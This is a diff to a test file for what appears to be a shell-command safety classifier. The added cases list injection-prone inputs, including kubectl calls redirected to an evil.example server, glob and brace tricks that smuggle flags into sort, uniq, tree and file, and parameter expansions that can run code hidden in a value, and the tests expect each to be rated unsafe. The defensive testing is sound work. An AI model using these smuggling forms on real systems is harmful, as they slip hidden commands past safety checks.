@@ -224,7 +224,46 @@ describe("an unknown command", () => {
     'git show "--output" f',
     "git diff --ext-diff",
     "kubectl get pods --kubeconfig=f",
+    "kubectl get pods --profile=cpu --profile-output=f",
+    "kubectl get pods --cache-dir=d",
+    "kubectl get pods --server=https://evil.example",
+    "kubectl get pods -s https://evil.example",
+    "kubectl get pods -As=https://evil.example",
+    "printf -v x y",
+    "printf %d a[x]",
+    "sort *",
+    "sort {-o,f}",
+    "sort $X",
+    "uniq *",
+    "uniq {a,b}",
+    "tree {-o,f}",
+    "file {-C,-m,f}",
   ])("is a reading program with the flag of %j", (command) => expect(summary(command)).toBe("unknown unknown "));
+});
+
+describe("an expansion that can run a command standing in a value is never safe", () => {
+  test.each([
+    "echo ${PWD@P}",
+    'echo "${PWD@P}"',
+    'echo "${(e)PWD}"',
+    "echo ${~PWD}",
+    "echo $~PWD",
+    "echo $^PWD",
+    "echo $[PWD]",
+    "echo $PWD[x]",
+    "echo $@[x]",
+    "echo ${PWD:-x}",
+    "echo ${!X}",
+    "echo $'a'",
+    `echo $${"A".repeat(200)}[x]`,
+    'printf -v "a[$PWD]" x',
+    "ls\rmake",
+  ])("%j", (command) => expect(summary(command)).toBe("unknown unknown "));
+
+  test.each(["echo $HOME", "echo ${HOME}/x", 'echo "$HOME costs 5 $"', "echo $1 $$ $? a$", "echo \\${PWD@P}", "echo '${PWD@P}'"])(
+    "%s is safe",
+    (command) => expect(summary(command)).toBe("safe safe io"),
+  );
 });
 
 test("what is too long for a shell is never safe", () => {
@@ -246,6 +285,9 @@ test("time grows with the length of the command, not faster", () => {
     ">",
     "find -exec rm ",
     "a",
+    "$",
+    "$a",
+    "echo $a ",
   ];
   for (const bomb of bombs) {
     const start = performance.now();
